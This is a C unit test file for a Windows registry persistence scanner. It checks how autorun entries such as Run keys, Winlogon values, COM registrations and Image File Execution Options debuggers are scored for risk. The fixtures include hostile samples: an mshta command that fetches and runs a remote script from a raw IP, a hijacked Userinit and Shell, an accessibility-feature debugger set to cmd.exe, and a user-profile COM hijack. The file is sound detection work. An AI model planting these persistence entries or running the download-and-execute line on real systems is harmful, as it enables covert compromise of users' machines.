/*
 * Scoring rules for the core techniques, provenance and known-good handling, determinism.
 */
#include "rh_test.h"

static rh_ctx *ctx;
static rh_kb *kb;

static void score(const char *loc, rh_kb_hive hive, const char *key, const char *name,
                  uint32_t type, const void *data, size_t len, rh_score_input *tmpl,
                  rh_score_result *r)
{
    rh_score_input in;
    if (tmpl) {
        in = *tmpl;
    } else {
        memset(&in, 0, sizeof(in));
    }
    in.loc = rh_kb_find(kb, loc);
    RH_CHECK(in.loc != NULL);
    in.hive = hive;
    in.key_path = key;
    in.key_len = strlen(key);
    in.value_name = name;
    in.name_len = strlen(name);
    in.data.type = type;
    in.data.data = data;
    in.data.len = len;
    RH_CHECK_EQ(rh_score_value(ctx, &in, r), RH_OK);
}

#define S(str) (str), strlen(str)
#define RUN    "Software\\Microsoft\\Windows\\CurrentVersion\\Run"

static void test_run(void)
{
    rh_score_result r, r2;
    rh_score_input t;
    const char *mal =
        "mshta.exe vbscript:Execute(\"GetObject(\"\"script:http://203.0.113.7/x\"\")\")";
    memset(&t, 0, sizeof(t));
    t.reference_time = 134000000000000000ull;
    t.key_last_write = t.reference_time - 864000000000ull; /* one day before */
    score("run_hkcu", RH_KB_HIVE_NTUSER, RUN, "WinUpdate", 1, S(mal), &t, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK_EQ(r.confidence, RH_CONF_HIGH);
    RH_CHECK_EQ(r.action, RH_ACTION_CONTAINMENT);
    RH_CHECK(strstr(r.reasons, "script host mshta") != NULL);
    RH_CHECK(strstr(r.reasons, "raw IP") != NULL);
    RH_CHECK(strstr(r.reasons, "not in baseline") != NULL);
    RH_CHECK(strstr(r.reasons, "within 7 days") != NULL);
    RH_CHECK(strncmp(r.action_text, "Containment", 11) == 0);
    score("run_hkcu", RH_KB_HIVE_NTUSER, RUN, "WinUpdate", 1, S(mal), &t, &r2);
    RH_CHECK_STR(r.reasons, r2.reasons); /* deterministic */
    RH_CHECK_EQ(r.points, r2.points);
    rh_score_result_free(ctx, &r2);
    t.in_baseline = 1;
    score("run_hkcu", RH_KB_HIVE_NTUSER, RUN, "WinUpdate", 1, S(mal), &t, &r2);
    RH_CHECK(r2.risk <= RH_RISK_LOW);
    rh_score_result_free(ctx, &r2);
    t.in_baseline = 0;
    t.in_allowlist = 1;
    score("run_hkcu", RH_KB_HIVE_NTUSER, RUN, "WinUpdate", 1, S(mal), &t, &r2);
    RH_CHECK_EQ(r2.risk, RH_RISK_INFO);
    rh_score_result_free(ctx, &r2);
    rh_score_result_free(ctx, &r);
    /* deleted-only and replay-only values are at least Medium */
    memset(&t, 0, sizeof(t));
    t.value_flags = RH_SCORE_FROM_REPLAY;
    score("run_hklm", RH_KB_HIVE_SOFTWARE, "Microsoft\\Windows\\CurrentVersion\\Run", "Agent", 1,
          S("\"C:\\Program Files\\Agent\\agent.exe\""), &t, &r);
    RH_CHECK(r.risk >= RH_RISK_MEDIUM);
    RH_CHECK(strstr(r.reasons, "log replay") != NULL);
    rh_score_result_free(ctx, &r);
    /* RunOnceEx "||" line */
    score("runonceex_hklm", RH_KB_HIVE_SOFTWARE,
          "Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001", "1", 1,
          S("||C:\\Users\\Public\\x.exe"), NULL, &r);
    RH_CHECK(r.risk >= RH_RISK_MEDIUM);
    RH_CHECK_STR(r.target, "C:\\Users\\Public\\x.exe");
    rh_score_result_free(ctx, &r);
}

static void test_startupapproved(void)
{
    rh_score_result r;
    /* disabled, FILETIME 2026-11-20T08:14:03.1234567Z */
    uint64_t ft = 134396360431234567ull;
    uint8_t d[12] = {3, 0, 0, 0};
    size_t i;
    for (i = 0; i < 8; i++) {
        d[4 + i] = (uint8_t)(ft >> (8 * i));
    }
    score("startupapproved_run_hkcu", RH_KB_HIVE_NTUSER,
          "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run",
          "OneDrive", 3, d, 12, NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    RH_CHECK_EQ(r.time_info, ft);
    RH_CHECK(strstr(r.reasons, "disabled in Task Manager") != NULL);
    RH_CHECK(strstr(r.reasons, "2026-11-20T08:14:03.1234567Z") != NULL);
    rh_score_result_free(ctx, &r);
}

static void test_winlogon(void)
{
    rh_score_result r;
    const char *wl = "Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
    score("winlogon_userinit", RH_KB_HIVE_SOFTWARE, wl, "Userinit", 1,
          S("C:\\Windows\\system32\\userinit.exe,"), NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    RH_CHECK(r.is_default);
    rh_score_result_free(ctx, &r);
    score("winlogon_userinit", RH_KB_HIVE_SOFTWARE, wl, "Userinit", 2,
          S("%SystemRoot%\\system32\\userinit.exe"), NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    rh_score_result_free(ctx, &r);
    score("winlogon_userinit", RH_KB_HIVE_SOFTWARE, wl, "Userinit", 1,
          S("C:\\Windows\\system32\\userinit.exe,C:\\Windows\\nt.exe,"), NULL, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK(strstr(r.reasons, "extra Winlogon Userinit entry: C:\\Windows\\nt.exe") != NULL);
    rh_score_result_free(ctx, &r);
    score("winlogon_shell", RH_KB_HIVE_SOFTWARE, wl, "Shell", 1, S("explorer.exe"), NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    rh_score_result_free(ctx, &r);
    score("winlogon_shell", RH_KB_HIVE_SOFTWARE, wl, "Shell", 1, S("cmd.exe"), NULL, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK(strstr(r.reasons, "replaced") != NULL);
    rh_score_result_free(ctx, &r);
    score("userinitmprlogonscript", RH_KB_HIVE_NTUSER, "Environment", "UserInitMprLogonScript", 1,
          S("C:\\Users\\bob\\AppData\\Roaming\\l.bat"), NULL, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK_STR(r.technique, "T1037.001");
    rh_score_result_free(ctx, &r);
}

static void test_com(void)
{
    rh_score_result r;
    rh_score_input t;
    rh_comdb *db = NULL;
    const char *clsid = "{BCDE0395-E52F-467C-8E3D-C4579291692E}";
    RH_CHECK_EQ(rh_comdb_create(ctx, &db), RH_OK);
    RH_CHECK_EQ(rh_comdb_add(db, clsid, RH_COM_INPROC, "%SystemRoot%\\System32\\MMDevApi.dll"),
                RH_OK);
    RH_CHECK_EQ(rh_comdb_add(db, "not-a-guid", RH_COM_INPROC, "x"), RH_ERR_ARG);
    memset(&t, 0, sizeof(t));
    t.machine_com = db;
    score("com_hkcu_inprocserver32", RH_KB_HIVE_USRCLASS,
          "CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32", "", 1,
          S("C:\\Users\\bob\\AppData\\Local\\mm.dll"), &t, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK(strstr(r.reasons, "shadows the machine registration") != NULL);
    rh_score_result_free(ctx, &r);
    score("com_hkcu_inprocserver32", RH_KB_HIVE_USRCLASS,
          "CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32", "", 2,
          S("C:\\Windows\\System32\\MMDevApi.dll"), &t, &r);
    RH_CHECK(r.risk <= RH_RISK_LOW);
    rh_score_result_free(ctx, &r);
    rh_comdb_destroy(db);
}

static void test_ifeo(void)
{
    rh_score_result r;
    const char *k = "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\osk.exe";
    score("ifeo_debugger", RH_KB_HIVE_SOFTWARE, k, "Debugger", 1, S("cmd.exe"), NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_CRITICAL);
    RH_CHECK_STR(r.technique, "T1546.008");
    RH_CHECK_STR(r.technique_name, "Accessibility Features");
    rh_score_result_free(ctx, &r);
}

static void test_hidden_and_oom(void)
{
    rh_score_result r;
    rh_score_input in;
    long n;
    score("run_hkcu", RH_KB_HIVE_NTUSER, RUN, "", 1, S("C:\\Program Files\\a.exe"), NULL, &r);
    rh_score_result_free(ctx, &r);
    memset(&in, 0, sizeof(in));
    in.loc = rh_kb_find(kb, "run_hkcu");
    in.key_path = RUN;
    in.key_len = strlen(RUN);
    in.value_name = "\0x";
    in.name_len = 2;
    in.data.type = 1;
    in.data.data = (const uint8_t *)"C:\\Program Files\\a.exe";
    in.data.len = 22;
    RH_CHECK_EQ(rh_score_value(ctx, &in, &r), RH_OK);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    RH_CHECK(strstr(r.reasons, "hidden value name (NUL") != NULL);
    rh_score_result_free(ctx, &r);
    /* allocation failures: clean error, no leak (ASan) */
    for (n = 1; n < 200; n++) {
        rh_allocator a = rh_test_allocator();
        rh_ctx *c2 = NULL;
        rh_status st;
        rh_test_fail_alloc_at(0);
        RH_CHECK_EQ(rh_ctx_create(&a, &c2), RH_OK);
        rh_test_fail_alloc_at(n);
        st = rh_score_value(c2, &in, &r);
        RH_CHECK(st == RH_OK || st == RH_ERR_NOMEM);
        rh_score_result_free(c2, &r);
        rh_test_fail_alloc_at(0);
        rh_ctx_destroy(c2);
    }
}

/* Empty values run nothing (real-hive false positives: ExcludeFromKnownDlls, SetupExecute,
 * RDP-Tcp InitialProgram, Windows\Load exist empty on every install). */
static void test_empty(void)
{
    rh_score_result r;
    rh_score_input t;
    const char *sm = "ControlSet001\\Control\\Session Manager";
    const char *win = "Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows";
    static const char nul_pad[] = "\0\0";
    static const char hidden[] = "\0Load";
    score("setupexecute", RH_KB_HIVE_SYSTEM, sm, "SetupExecute", 7, nul_pad, 2, NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    RH_CHECK(strstr(r.reasons, "empty") != NULL);
    RH_CHECK(strstr(r.reasons, "empty on a clean Windows") == NULL);
    rh_score_result_free(ctx, &r);
    score("windows_load_hkcu", RH_KB_HIVE_NTUSER, win, "Load", 1, S(" \t "), NULL, &r);
    RH_CHECK_EQ(r.risk, RH_RISK_INFO);
    rh_score_result_free(ctx, &r);
    /* a payload after blanks is not empty */
    score("windows_load_hkcu", RH_KB_HIVE_NTUSER, win, "Load", 1, S("  C:\\Users\\Public\\l.exe"),
          NULL, &r);
    RH_CHECK(r.risk >= RH_RISK_HIGH);
    rh_score_result_free(ctx, &r);
    /* hidden value name with empty data: visible at Medium, never High */
    memset(&t, 0, sizeof(t));
    t.loc = rh_kb_find(kb, "windows_load_hkcu");
    t.hive = RH_KB_HIVE_NTUSER;
    t.key_path = win;
    t.key_len = strlen(win);
    t.value_name = hidden;
    t.name_len = sizeof(hidden) - 1;
    t.data.type = 1;
    t.data.data = (const uint8_t *)"";
    t.data.len = 0;
    RH_CHECK_EQ(rh_score_value(ctx, &t, &r), RH_OK);
    RH_CHECK_EQ(r.risk, RH_RISK_MEDIUM);
    rh_score_result_free(ctx, &r);
    /* deleted value without recoverable data: not called empty */
    memset(&t, 0, sizeof(t));
    t.value_flags = RH_SCORE_DELETED;
    score("windows_load_hkcu", RH_KB_HIVE_NTUSER, win, "Load", 1, "", 0, &t, &r);
    RH_CHECK(r.risk >= RH_RISK_MEDIUM);
    RH_CHECK(strstr(r.reasons, "runs nothing") == NULL);
    rh_score_result_free(ctx, &r);
}

int main(void)
{
    RH_CHECK_EQ(rh_ctx_create(NULL, &ctx), RH_OK);
    RH_CHECK_EQ(rh_kb_create(ctx, &kb), RH_OK);
    test_run();
    test_startupapproved();
    test_winlogon();
    test_com();
    test_ifeo();
    test_hidden_and_oom();
    test_empty();
    rh_kb_destroy(kb);
    rh_ctx_destroy(ctx);
    return rh_test_summary("test_score_core");
}
